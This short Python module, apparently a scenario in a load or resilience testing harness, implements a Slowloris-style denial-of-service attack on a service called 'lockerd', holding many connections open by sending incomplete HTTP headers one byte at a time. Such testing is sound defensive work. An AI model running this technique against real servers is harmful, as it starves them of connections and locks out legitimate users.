"""Requests whose headers come one byte at a time: each holds a connection for as long as it is waited for."""

import asyncio

from siege import Target

REQUEST = b"GET /v1/status HTTP/1.1\r\nHost: lockerd\r\nX-Slow: "
BYTE_S = 0.05


async def attack(target: Target) -> None:
    writers = []
    for _ in range(target.dose(200, 2_000)):
        _, writer = await target.connect(target.terminal)
        writer.write(REQUEST)
        writers.append(writer)
    for _ in range(target.dose(20, 600)):
        for writer in writers:
            if not writer.is_closing():
                writer.write(b"x")
        await asyncio.sleep(BYTE_S)
